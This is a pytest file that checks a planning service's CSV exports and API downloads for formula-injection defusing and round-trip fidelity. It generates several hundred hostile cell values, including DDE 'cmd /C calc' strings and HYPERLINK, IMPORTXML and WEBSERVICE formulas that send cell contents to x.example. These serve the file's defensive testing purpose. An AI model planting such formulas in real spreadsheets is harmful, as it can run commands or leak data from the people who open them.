"""Text that a spreadsheet would run is defused in every CSV for people, and comes back as it was
(reliability test 27).
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from typer.testing import CliRunner

from api.cli.app import app as cli
from api.jobs.plans import Origin
from api.services.plans.source import source_of
from api.store.tables import PlanRow
from models.files.assignments import read_assignments
from models.files.csv_writer import fused, write_csv
from models.files.frame_files import write_frames
from models.files.plan_files import read_plan, write_plan
from models.files.snapshot_files import read_snapshot
from models.issues import IssueLog
from models.outcome import Limits
from planner.policy import policy_from_text
from planner.solve import make_plan
from tests.api.company import POLICY, add_company, add_made_plan, add_rules, publish, write_company
from tests.api.office import whole

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping
    from pathlib import Path

    from fastapi.testclient import TestClient

    from api.services.service import Service
    from models.plan import Plan

MARKS: Mapping[str, str] = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "full-width equals": "\uff1d",
    "full-width plus": "\uff0b",
    "full-width minus": "\uff0d",
    "full-width at": "\uff20",
}
FORMS: Mapping[str, str] = {
    "sum": "1+1",
    "sum of cells": "SUM(A1:A9)",
    "DDE": "cmd|' /C calc'!A0",
    "DDE, quoted": 'DDE("cmd";"/C calc";"!A0")',
    "hyperlink": 'HYPERLINK("http://x.example/?"&A1,"open")',
    "import": 'IMPORTXML("http://x.example/"&A1,"//a")',
    "web service": 'WEBSERVICE("http://x.example/"&A1)',
    "of a program": "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "another separator": "1;=2;+3",
}
BEFORE: Mapping[str, str] = {"alone": "", "after a quote": "'", "after two": "''"}
SPACED: Mapping[str, str] = {
    "after a space": " ",
    "after a tab": "\t",
    "after CR": "\r",
    "after LF": "\n",
    "after CR LF": "\r\n",
    "after NUL": "\0",
}
PAYLOADS: Mapping[str, str] = {
    f"{mark_name}, {form_name}, {before_name}": f"{before}{mark}{form}"
    for mark_name, mark in MARKS.items()
    for form_name, form in FORMS.items()
    for before_name, before in BEFORE.items()
}
IN_TABLES: Mapping[str, str] = {
    f"{mark_name}, {form_name}, {space_name}": f"{space}{mark}{form}"
    for mark_name, mark in MARKS.items()
    for form_name, form in list(FORMS.items())[:3]
    for space_name, space in SPACED.items()
}
"""What a table's own ids cannot be, as spaces around them are a fault; remarks may hold them."""


def runs(text: str) -> bool:
    """Return whether a spreadsheet may run a cell's text; said apart from the product."""
    return text.lstrip(" ")[:1] in {*MARKS.values(), "\t", "\r", "\n", "\0"}


def is_number(text: str) -> bool:
    """Return whether a text is a number, as `float` reads it."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def assignment(plan: Plan) -> dict[str, str | None]:
    """Return the rep by lead, None for nobody."""
    table = plan.assignments[["lead_id", "rep_id"]].astype(object)
    return dict(table.where(table.notna(), None).itertuples(index=False, name=None))


def records(text: str) -> list[dict[str, str]]:
    """Read CSV as RFC 4180 has it; each record has as many fields as the header."""
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def tables_with(texts: Iterable[str]) -> dict[str, str]:
    """Return a company each of whose leads is called so, and whose reps and regions are, too."""
    leads = io.StringIO(newline="")
    rows = csv.writer(leads, lineterminator="\n")
    rows.writerow(["lead_id", "region", "grade", "amount", "win_probability", "owner"])
    for number, text in enumerate(texts):
        owner = ("", "=R1", "+R2")[number % 3]
        rows.writerow([text, "@US/East", "-A", 1000 + number, 0.5, owner])
    reps = "rep_id,name,team,regions,capacity_hours,max_leads\n" + "".join(
        f"{rep},=Ann,@east,@US/East,40,60\n" for rep in ("=R1", "+R2", "R3")
    )
    header = "schema: 1\nas_of: 2026-11-20T18:00:00Z\ntimezone: UTC\ncurrency: USD\n"
    return {"snapshot.yaml": header, "reps.csv": reps, "leads.csv": leads.getvalue()}


@pytest.fixture(scope="module")
def company(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a company whose ids are formulas."""
    directory = tmp_path_factory.mktemp("formulas") / "company"
    write_company(directory, tables_with(PAYLOADS.values()))
    (directory / "policy.yaml").write_text(POLICY, encoding="utf-8")
    return directory


@pytest.fixture(scope="module")
def plan(company: Path) -> Plan:
    """Return its plan."""
    limits = Limits(seconds=10, threads=1)
    return make_plan(
        read_snapshot(company), policy_from_text(POLICY), limits=limits, isolated=False
    )


def test_every_csv_of_a_plan_is_defused(plan: Plan, company: Path, tmp_path: Path) -> None:
    assert len(set(PAYLOADS.values())) >= 200
    made, again = tmp_path / "plan", tmp_path / "again"
    write_plan(plan, made)
    for file in made.glob("*.csv"):
        cells = [text for row in records(file.read_text("utf-8")) for text in row.values()]
        # Numbers are numbers: a score of nobody is below 0.
        assert all(is_number(text) for text in cells if runs(text)), file.name
    ids = [row["lead_id"] for row in records((made / "assignments.csv").read_text("utf-8"))]
    assert all(text.startswith("'") for text in ids)
    assert {fused(text) for text in ids} == set(PAYLOADS.values())
    # And back, by whoever reads an assignment or a plan's remarks.
    for command in (
        ["check", str(company), str(made)],
        ["evaluate", str(company), str(made / "assignments.csv"), "--out", str(again)],
    ):
        told = CliRunner().invoke(cli, command)
        assert told.exit_code == 0, told.output
    assert assignment(read_plan(again)) == assignment(plan)


def test_remarks_come_back(plan: Plan, tmp_path: Path) -> None:
    issues = IssueLog()
    for text in PAYLOADS.values():
        issues.add("similar_file", "leads", got=text)
    write_plan(replace(plan, issues=issues.to_frame()), tmp_path / "plan")
    expected = issues.to_frame()["got"].tolist()
    assert sum(runs(text) for text in expected) >= 72
    assert read_plan(tmp_path / "plan").issues["got"].tolist() == expected
    row = PlanRow(record=plan.record.model_dump(mode="json"))
    assert [issue.got for issue in source_of(row, tmp_path / "plan").issues] == expected


def test_tables_of_commands_are_defused(tmp_path: Path) -> None:
    texts = [*PAYLOADS.values(), *IN_TABLES.values()]
    # Also a column of numbers and texts.
    mixed = [-5 - number if number % 2 else text for number, text in enumerate(texts)]
    numbers = [-5.5 - number for number in range(len(texts))]
    frame = pd.DataFrame({"name": texts, "mixed": pd.Series(mixed, dtype=object), "n": numbers})
    write_frames({"table": frame[["name", "n"]]}, tmp_path)
    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
        assert [fused(row["name"]) for row in records(file.read())] == texts
    write_csv(frame, tmp_path / "table.csv", defuse=True)
    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
        rows = records(file.read())
    assert all(row["name"].startswith("'") for row in rows)
    assert [fused(row["name"]) for row in rows] == texts
    assert [fused(row["mixed"]) for row in rows] == [str(cell) for cell in mixed]
    assert [row["mixed"] for row in rows if is_number(row["mixed"])] == [
        str(cell) for cell in mixed if isinstance(cell, int)
    ]
    assert [float(row["n"]) for row in rows] == numbers


@pytest.mark.parametrize("empty_url", ["sqlite"], indirect=True)
def test_every_csv_of_the_service_is_defused(
    service: Service, client: TestClient, plan: Plan, company: Path, tmp_path: Path
) -> None:
    tables = {file.name: file.read_text("utf-8") for file in company.iterdir()}
    del tables["policy.yaml"]
    origin = Origin(add_company(service, tables), add_rules(service))
    plan_id = add_made_plan(service, read_snapshot(company), plan, origin)
    publish(service, plan_id)
    plan_tables = ("assignments", "unassigned", "moves", "reps", "prices")
    urls = [f"/v1/plans/{plan_id}/{name}" for name in plan_tables]
    urls += ["/v1/publications/current/assignments", "/v1/pool"]
    for url in urls:
        told = client.get(url, headers={"Accept": "text/csv"})
        assert told.headers["content-type"].startswith("text/csv"), told.text
        rows, items = records(told.text), whole(client, f"{url}?limit=1000")
        assert len(rows) == len(items)
        for row, item in zip(rows, items, strict=True):
            assert all(is_number(text) for text in row.values() if runs(text)), url
            for name, value in item.items():
                # Moments are written otherwise than in JSON.
                if isinstance(value, str) and name != "since":
                    assert fused(row[name]) == value
    exported = client.get(urls[0], headers={"Accept": "text/csv"})
    (tmp_path / "export.csv").write_bytes(exported.content)
    back = read_assignments(tmp_path / "export.csv")
    given = dict(zip(back["lead_id"], back["rep_id"], strict=True))
    assert {lead: rep or None for lead, rep in given.items()} == assignment(plan)


def test_a_file_that_is_not_defused_is_taken_as_it_is(tmp_path: Path) -> None:
    file = tmp_path / "a.csv"
    for text, ids in (
        ("'=1,R1\n-2,R1", ["'=1", "-2"]),
        ("'=1,R1\n'-2,R1", ["=1", "-2"]),
        ("'x,R1\ny,=R", ["'x", "y"]),
    ):
        file.write_text(f"lead_id,rep_id\n{text}\n", encoding="utf-8")
        assert read_assignments(file)["lead_id"].tolist() == ids
